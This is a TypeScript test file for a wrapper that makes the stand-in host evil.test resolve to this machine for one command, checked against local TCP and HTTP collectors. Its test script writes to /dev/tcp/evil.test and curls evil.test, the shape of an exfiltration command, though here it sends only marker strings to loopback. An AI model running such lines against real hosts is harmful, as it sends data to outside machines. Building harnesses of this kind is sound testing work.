import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { processTestNamesMissing, withTestNames } from '../../../e2e/support/process-test-names';

// Asynchronous: the collectors answer in this process while the command runs.
const run = promisify(execFile);
const dir = mkdtempSync(join(tmpdir(), 'deputy-test-names-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A raw TCP server and a web server on loopback that keep what reaches them. */
async function collectors(): Promise<{ raw: number; web: number; got: string[]; close(): void }> {
  const got: string[] = [];
  const raw = createServer((socket) => socket.on('data', (chunk: Buffer) => got.push(`raw ${chunk.toString().trim()}`)));
  const web = createHttpServer((req, res) => {
    got.push(`web ${req.headers.host ?? ''}${req.url ?? ''}`);
    res.end('ok');
  });
  await Promise.all([new Promise<void>((done) => raw.listen(0, '127.0.0.1', done)), new Promise<void>((done) => web.listen(0, '127.0.0.1', done))]);
  return {
    raw: (raw.address() as AddressInfo).port,
    web: (web.address() as AddressInfo).port,
    got,
    close: () => {
      raw.close();
      web.close();
    },
  };
}

const missing = processTestNamesMissing(dir);

describe('the host surfaces\' name mapping: evil.test is this machine for a command and its children, /etc/hosts untouched', () => {
  it.skipIf(missing !== undefined)('bash\'s /dev/tcp, curl and Node\'s dns.lookup reach evil.test through the wrapper, and not without it', async () => {
    const sinks = await collectors();
    try {
      const script = `echo from-bash > /dev/tcp/evil.test/${sinks.raw}; curl -s --max-time 20 http://evil.test:${sinks.web}/from-curl; ${JSON.stringify(process.execPath)} -e "require('node:dns').lookup('evil.test', (e, a) => console.log('node', e ? e.code : a))"`;
      const mapped = await run(withTestNames(dir, '/bin/bash'), ['-c', script], { encoding: 'utf8', timeout: 60_000 });
      expect(mapped.stdout).toContain('node 127.0.0.1');
      expect(sinks.got.sort()).toEqual(['raw from-bash', `web evil.test:${sinks.web}/from-curl`]);

      sinks.got.length = 0;
      const plain = await run('/bin/bash', ['-c', script], { encoding: 'utf8', timeout: 60_000 });
      expect(plain.stdout).toContain('node ENOTFOUND');
      expect(sinks.got).toEqual([]);
      expect(readFileSync('/etc/hosts', 'utf8')).not.toContain('evil.test');
    } finally {
      sinks.close();
    }
  });

  it('passes the command its arguments as given, quotes and spaces kept', () => {
    const args = spawnSync(withTestNames(dir, '/bin/sh'), ['-c', 'printf "%s|" "$@"', 'sh', "it's", 'two words', '$HOME'], { encoding: 'utf8', timeout: 60_000 });
    if (missing) expect(args.status).not.toBe(0);
    else expect(args.stdout).toBe("it's|two words|$HOME|");
  });
});
